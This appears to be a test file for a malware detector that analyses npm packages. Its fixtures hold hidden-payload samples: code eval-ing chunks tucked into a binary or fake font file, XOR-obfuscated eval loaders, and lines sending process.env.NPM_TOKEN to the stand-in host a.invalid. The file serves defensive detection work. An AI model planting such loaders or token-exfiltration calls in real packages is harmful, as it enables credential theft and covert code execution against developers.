import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';

describe('buffers', () => {
  it('are taken apart by the numbers in them', () => {
    const chunk = (type: string, data: string): Buffer => {
      const head = Buffer.alloc(8);
      head.writeUInt32BE(data.length);
      head.write(type, 4);
      return Buffer.concat([head, Buffer.from(data)]);
    };
    const code = `const b = require('fs').readFileSync(__dirname + '/a.bin'); let at = 0;
      while (at < b.length) { const size = b.readUInt32BE(at), type = b.toString('latin1', at + 4, at + 8);
        if (type === 'CODE') eval(b.toString('utf8', at + 8, at + 8 + size)); at += 8 + size; }`;
    const sentBy = (type: string): readonly string[] =>
      analysePackage(
        packageOf({
          'index.js': code,
          'a.bin': Buffer.concat([
            chunk('HEAD', '1'),
            chunk(type, `fetch('https://a.invalid/' + process.env.NPM_TOKEN)`),
          ]),
        }),
      ).flows.map(({ source, sink }) => `${source}>${sink}`);
    assert.deepEqual(sentBy('CODE'), ['data-file>evaluated', 'secret-variable>network']);
    assert.deepEqual(sentBy('TEXT'), []);
  });

  it('hide something where they are spelled in numbers, and nothing where these are zeros', () => {
    const runs = (numbers: readonly number[]): readonly string[] =>
      analysePackage(
        packageOf({ 'index.js': `require('vm').runInThisContext(Buffer.from([${numbers.join()}]).toString());` }),
      ).flows.map(({ source, sink }) => `${source}>${sink}`);
    assert.deepEqual(runs([...Buffer.from('console.log(1)')]), ['decoded>evaluated']);
    assert.deepEqual(runs([80, 75, 5, 6, ...Array.from({ length: 18 }, () => 0)]), []);
  });

  it('tell where a text or other bytes stand in them', () => {
    for (const mark of [`'----'`, `Buffer.from('----')`]) {
      const code = `const b = require('fs').readFileSync(__dirname + '/font.woff2'); eval(b.subarray(b.indexOf(${mark}) + 4).toString());`;
      const inner = `require('https').get('https://a.invalid/' + process.env.NPM_TOKEN)`;
      const { flows } = analysePackage(
        packageOf({ 'index.js': code, 'font.woff2': `wOF2.-----${inner}`.replace('-----', '----') }),
      );
      assert.deepEqual(
        flows.map(({ source, sink }) => `${source}>${sink}`),
        ['data-file>evaluated', 'secret-variable>network'],
      );
    }
  });

  describe('of a constant under a key that only the machine has', () => {
    const numbers = [...Buffer.from('sent(1, 2);')].map((byte) => byte ^ 7).join();
    const given = `const list = [${numbers}], bytes = Buffer.from('${Buffer.from('sent(1, 2);').toString('hex')}', 'hex');
      const key = require('crypto').createHash('sha256').update(process.env.PROJECT || '').digest();`;
    const runs = (code: string): readonly string[] =>
      analysePackage(packageOf({ 'index.js': given + code })).flows.map(({ source, sink }) => `${source}>${sink}`);
    const WAYS = [
      'eval(bytes.map((byte, at) => byte ^ key[at % 32]).toString());',
      'eval(Buffer.from(list.map((byte, at) => byte ^ key[at % 32])).toString());',
      'eval(String.fromCharCode(...list.map((byte, at) => key[at % 32] ^ byte)));',
      `let code = ''; for (let at = 0; at < list.length; at++) code += String.fromCharCode(list[at] ^ key[at % 32]); new Function(code)();`,
      'const out = new Uint8Array(list.length); list.forEach((byte, at) => { out[at] = byte ^ key[at % 32]; }); eval(new TextDecoder().decode(out));',
    ];
    for (const way of WAYS) {
      it(`are something hidden that runs: ${way}`, () => {
        assert.ok(runs(way).includes('decoded>evaluated'));
      });
    }

    it('are nothing where a digest, a mask or a caller has to do with them', () => {
      for (const code of [
        `let sum = 9; for (const byte of key) sum ^= byte; new Function('x', 'return cache_' + sum.toString(36) + '(x)');`,
        'exports.unmask = (data, mask) => eval(data.map((byte, at) => byte ^ mask[at % 4] ^ 3).toString());',
        `exports.run = (text) => eval(text.replace(/./g, (letter) => String.fromCharCode(letter.charCodeAt(0) ^ 1)));`,
      ])
        assert.deepEqual(runs(code), [], code);
    });
  });
});
